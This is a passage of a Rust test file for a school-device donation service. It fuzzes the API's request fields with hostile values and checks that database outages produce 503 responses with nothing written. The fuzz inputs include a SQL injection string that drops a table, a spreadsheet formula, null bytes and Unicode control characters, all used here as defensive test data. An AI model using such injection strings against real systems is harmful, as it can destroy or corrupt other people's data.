    );
}

// ---------------------------------------------------------------------------
// The property test: hostile values in every field of the request types.
// ---------------------------------------------------------------------------

/// Text people should never be able to smuggle in, mixed with the text they
/// really type.
fn hostile_text() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        "[a-zA-Z0-9 .-]{0,8}",
        Just("\u{0}".to_owned()),
        Just("\u{7}".to_owned()),
        Just("\u{1b}[31m".to_owned()),
        Just("o\u{302}\u{301}".to_owned()),
        Just("\u{301}".to_owned()),
        Just("\u{202e}".to_owned()),
        Just("\u{200f}".to_owned()),
        Just("\u{feff}".to_owned()),
        Just("\u{fffd}".to_owned()),
        Just("Hòa Bình".to_owned()),
        Just("😀".to_owned()),
        Just("=HYPERLINK(\"x\")".to_owned()),
        Just("'; DROP TABLE students; --".to_owned()),
        Just("%00".to_owned()),
        Just("x".repeat(600)),
        "\\PC{0,6}",
    ];
    prop::collection::vec(piece, 0..5).prop_map(|pieces| pieces.concat())
}

fn hostile_number() -> impl Strategy<Value = Value> {
    prop_oneof![
        Just(json!(i64::MAX)),
        Just(json!(u64::MAX)),
        Just(json!(i64::MIN)),
        Just(json!(-1)),
        Just(json!(0)),
        Just(json!(1e300)),
        Just(json!(0.5)),
        Just(json!("12")),
        Just(Value::Null),
        any::<i64>().prop_map(|n| json!(n)),
        any::<i32>().prop_map(|n| json!(n)),
    ]
}

/// A field's value: usually the valid one, otherwise hostile text or a
/// hostile number.
fn field(valid: Value) -> impl Strategy<Value = Value> {
    prop_oneof![
        3 => Just(valid),
        2 => hostile_text().prop_map(Value::from),
        1 => hostile_number(),
    ]
}

fn object(fields: Vec<(&'static str, Value)>) -> BoxedStrategy<Value> {
    let strategies: Vec<_> = fields
        .into_iter()
        .map(|(name, valid)| field(valid).prop_map(move |v| (name, v)))
        .collect();
    strategies
        .prop_map(|pairs| {
            let mut object = serde_json::Map::new();
            for (name, value) in pairs {
                object.insert(name.to_owned(), value);
            }
            Value::Object(object)
        })
        .boxed()
}

#[actix_rt::test]
async fn hostile_values_in_every_request_type_get_a_4xx_and_write_nothing() {
    let app = uncached_app().await;
    let s = story(&app).await;
    let schools = app.get("/api/v1/schools?limit=10", &s.admin).await.ok(200);
    let school_id = schools["items"][0]["id"].clone();
    // (method, path, token, body strategy)
    let requests: Vec<(&str, &str, Option<&str>, BoxedStrategy<Value>)> = vec![
        (
            "POST",
            "/api/v1/users",
            Some(&s.admin),
            object(vec![
                ("username", json!("fuzz.user")),
                ("password", json!("long enough password")),
                ("role", json!("stats_reader")),
            ]),
        ),
        (
            "POST",
            "/api/v1/campaigns",
            Some(&s.admin),
            object(vec![
                ("name", json!("Thư ngỏ")),
                ("starts_on", json!("2021-09-01")),
            ]),
        ),
        (
            "POST",
            "/api/v1/donors",
            Some(&s.admin),
            object(vec![
                ("kind", json!("individual")),
                ("name", json!("Bà Lan")),
                ("inside_province", json!(true)),
                ("phone", json!("0912345670")),
                ("email", json!("lan@example.vn")),
                ("tax_code", json!("0100109106")),
                ("address", json!("Hòa Bình")),
            ]),
        ),
        (
            "POST",
            "/api/v1/suppliers",
            Some(&s.admin),
            object(vec![
                ("name", json!("Công ty")),
                ("tax_code", json!("5400987655")),
                ("contact", json!("Anh Nam")),
            ]),
        ),
        (
            "POST",
            "/api/v1/receipts",
            Some(&s.kho),
            object(vec![
                ("campaign_id", json!(s.campaign)),
                ("donor_id", json!(s.donors[0])),
                ("receipt_type", json!("donation")),
                ("kind", json!("money")),
                ("amount_vnd", json!(1_000_000)),
                ("received_on", json!("2021-10-05")),
                ("bank_reference", json!("FT-FUZZ")),
            ]),
        ),
        (
            "POST",
            "/api/v1/pledges",
            Some(&s.admin),
            object(vec![
                ("campaign_id", json!(s.campaign)),
                ("donor_id", json!(s.donors[0])),
                ("kind", json!("device")),
                ("device_type", json!("tablet")),
                ("quantity", json!(3)),
                ("device_condition", json!("used")),
            ]),
        ),
        (
            "POST",
            "/api/v1/coverage-gaps",
            Some(&s.officer),
            object(vec![
                ("admin_unit_code", json!("04831")),
                ("place_name", json!("Xóm Bưa")),
                ("school_ids", json!([school_id])),
                ("students_affected", json!(12)),
                ("latitude", json!(20.8)),
                ("note", json!("Không có sóng")),
            ]),
        ),
        (
            "POST",
            "/api/v1/sync/students",
            Some(&s.admin),
            object(vec![
                ("external_id", json!("FZ-1")),
                ("school_code", json!("TH-DABAC")),
                ("grade", json!(3)),
                ("full_name", json!("Lò Văn A")),
                ("birth_date", json!("2015-03-14")),
                ("gender", json!("male")),
                ("household_status", json!("poor")),
                ("device_status", json!("none")),
                ("connectivity_status", json!("none")),
            ])
            .prop_map(|record| json!([record]))
            .boxed(),
        ),
        (
            "POST",
            "/api/v1/sync/schools",
            Some(&s.admin),
            object(vec![
                ("moet_code", json!("TH-FUZZ")),
                ("name", json!("Trường")),
                ("admin_unit_code", json!("04831")),
                ("level", json!("primary")),
            ])
            .prop_map(|record| json!([record]))
            .boxed(),
        ),
        (
            "POST",
            "/api/v1/auth/token",
            None,
            object(vec![
                ("username", json!("admin")),
                ("password", json!("not the password")),
            ]),
        ),
        (
            "POST",
            "/api/v1/allocations/run",
            Some(&s.officer),
            object(vec![
                ("admin_unit", json!("150")),
                ("kinds", json!(["device"])),
                ("dry_run", json!(true)),
                ("quota_per_school", json!(5)),
            ]),
        ),
        (
            "GET",
            "/api/v1/schools?q=",
            Some(&s.admin),
            hostile_text().prop_map(Value::from).boxed(),
        ),
        (
            "GET",
            "/api/v1/stats/coverage?admin_unit=",
            Some(&s.admin),
            hostile_text().prop_map(Value::from).boxed(),
        ),
        (
            "GET",
            "/api/v1/schools/by-code/",
            Some(&s.admin),
            hostile_text().prop_map(Value::from).boxed(),
        ),
    ];
    let mut runner = TestRunner::new_with_rng(
        ProptestConfig::default(),
        TestRng::from_seed(RngAlgorithm::ChaCha, &[7; 32]),
    );
    let cases_per_request: usize = std::env::var("SONGMAY_FUZZ_CASES")
        .ok()
        .and_then(|n| n.parse().ok())
        .unwrap_or(24);
    let mut refused = 0;
    let mut accepted = 0;
    for (method, path, token, strategy) in &requests {
        for case in 0..cases_per_request {
            let value = strategy.new_tree(&mut runner).unwrap().current();
            let before = app.row_counts();
            let reply = if *method == "GET" {
                let text = value.as_str().unwrap_or_default();
                let text = if text.is_empty() { "x" } else { text };
                app.get(&format!("{path}{}", query_escape(text)), token.unwrap())
                    .await
            } else {
                app.post(path, *token, &value).await
            };
            let status = reply.status.as_u16();
            assert!(
                status < 500,
                "{method} {path} case {case} answered {status}: {value} → {}",
                body_text(&reply)
            );
            let whole_batch_rejected = status == 200
                && reply.json().get("rejected") == Some(&json!(1))
                && reply.json()["inserted"] == 0
                && reply.json()["updated"] == 0;
            if status >= 400 {
                refused += 1;
                let after = app.row_counts();
                assert_eq!(after, before, "{method} {path} refused {value} but wrote");
                reply.problem(status);
            } else if whole_batch_rejected {
                refused += 1;
                let mut after = app.row_counts();
                let mut before = before;
                assert!(after.remove("audit_log") >= before.remove("audit_log"));
                assert_eq!(after, before, "{method} {path} rejected {value} but wrote");
            } else {
                accepted += 1;
            }
        }
    }
    // Both sides of the property were exercised.
    assert!(refused > 50, "refused {refused}");
    assert!(accepted > 10, "accepted {accepted}");
}

// ---------------------------------------------------------------------------
// A database that becomes unavailable in the middle of the writes that
// matter most (a pledge, a receipt, an allocation, a handover) answers 503,
// never a 404 or 422 made from a failed lookup, nor a 500.
// ---------------------------------------------------------------------------

/// Sends `request` while the database cannot serve it, and returns the
/// answer. PostgreSQL: `table` is locked, the request waits on the lock
/// inside the service, and its backend is terminated. SQLite: another
/// process holds the write lock past the busy timeout.
async fn while_unavailable<F>(app: &TestApp, table: &str, request: F) -> crate::helpers::Reply
where
    F: std::future::Future<Output = crate::helpers::Reply>,
{
    use diesel::Connection;
    let url = app.db.url().to_owned();
    if app.db.is_postgres() {
        let mut holder = diesel::PgConnection::establish(&url).expect("connect");
        diesel::sql_query("BEGIN").execute(&mut holder).unwrap();
        diesel::sql_query(format!("LOCK TABLE {table} IN ACCESS EXCLUSIVE MODE"))
            .execute(&mut holder)
            .unwrap();
        let terminate = async {
            let mut waited = 0;
            loop {
                actix_rt::time::sleep(Duration::from_millis(100)).await;
                let waiting = diesel::sql_query(
                    "SELECT COUNT(*) AS n FROM pg_stat_activity
                     WHERE datname = current_database() AND wait_event_type = 'Lock'",
                )
                .get_result::<Counted>(&mut holder)
                .unwrap()
                .n;
                if waiting > 0 {
                    assert_eq!(waiting, 1, "the request, and only it, waits on {table}");
                    break;
                }
                waited += 1;
                assert!(waited < 100, "the request never reached {table}");
            }
            diesel::sql_query(
                "SELECT pg_terminate_backend(pid) FROM pg_stat_activity
                 WHERE datname = current_database() AND pid <> pg_backend_pid()",
            )
            .execute(&mut holder)
            .unwrap();
            diesel::sql_query("ROLLBACK").execute(&mut holder).unwrap();
        };
        futures_util::future::join(request, terminate).await.0
    } else {
        let mut holder = crate::helpers::hold_sqlite_write_lock(&url);
        let reply = request.await;
        diesel::sql_query("ROLLBACK").execute(&mut holder).unwrap();
        reply
    }
}

/// The answer is a 503 that wrote nothing; the same request then succeeds.
#[track_caller]
fn unavailable_and_nothing_written(
    reply: &crate::helpers::Reply,
    app: &TestApp,
    before: &BTreeMap<String, i64>,
    what: &str,
) {
    let status = reply.status.as_u16();
    assert_eq!(status, 503, "{what}: {}", body_text(reply));
    assert!(
        reply.header("retry-after").is_some(),
        "{what}: a retry hint"
    );
    assert_eq!(&data_snapshot(app), before, "{what} wrote nothing");
}

#[actix_rt::test]
async fn pledges_receipts_allocations_and_handovers_answer_503_when_the_database_fails() {
    let app = spawn_app_with(|env| {
        env.insert("SONGMAY_DB_POOL_SIZE", "3".into());
    })
    .await;
    let s = story(&app).await;
    s.one_student_and_a_tablet_for_them(&app, "DOWN-1").await;
    app.hold_the_database();

    // A pledge.
    let pledge = json!({"campaign_id": s.campaign, "donor_id": s.donors[2], "kind": "money", "amount_vnd": 5_000_000});
    let before = data_snapshot(&app);
    let reply = while_unavailable(
        &app,
        "pledges",
        app.post("/api/v1/pledges", Some(&s.admin), &pledge),
    )
    .await;
    unavailable_and_nothing_written(&reply, &app, &before, "a pledge");
    let pledge_id = app
        .post("/api/v1/pledges", Some(&s.admin), &pledge)
        .await
        .ok(201)["id"]
        .clone();

    // A receipt against it.
    let receipt = json!({"campaign_id": s.campaign, "pledge_id": pledge_id, "receipt_type": "donation", "kind": "money", "amount_vnd": 5_000_000, "bank_reference": "FT-DOWN-1", "received_on": "2021-10-05"});
    let before = data_snapshot(&app);
    let reply = while_unavailable(
        &app,
        "receipts",
        app.post("/api/v1/receipts", Some(&s.kho), &receipt),
    )
    .await;
    unavailable_and_nothing_written(&reply, &app, &before, "a receipt");
    app.post("/api/v1/receipts", Some(&s.kho), &receipt)
        .await
        .ok(201);

    // An allocation of the ready tablet to the approved need.
    let need = app
        .get("/api/v1/needs?status=approved", &s.admin)
        .await
        .ok(200)["items"][0]["id"]
        .clone();
    let item = app
        .get("/api/v1/inventory/items?status=ready", &s.admin)
        .await
        .ok(200)["items"][0]["id"]
        .clone();
    assert!(
        need.is_i64() && item.is_i64(),
        "a need {need} and a device {item}"
    );
    let allocation = json!({"need_id": need, "item_id": item});
    let before = data_snapshot(&app);
    let reply = while_unavailable(
        &app,
        "allocations",
        app.post("/api/v1/allocations", Some(&s.officer), &allocation),
    )
    .await;
    unavailable_and_nothing_written(&reply, &app, &before, "an allocation");
    let allocation_id = app
        .post("/api/v1/allocations", Some(&s.officer), &allocation)
        .await
        .ok(201)["id"]
        .clone();

    // Its handover.
    let handover = json!({"allocation_id": allocation_id, "received_by_name": "Phụ huynh", "relation": "parent", "handed_on": "2021-10-25", "acknowledged": true});
    let before = data_snapshot(&app);
    let reply = while_unavailable(
        &app,
        "handovers",
        app.post("/api/v1/handovers", Some(&s.officer), &handover),
    )
    .await;
    unavailable_and_nothing_written(&reply, &app, &before, "a handover");
    app.post("/api/v1/handovers", Some(&s.officer), &handover)
        .await
        .ok(201);
}
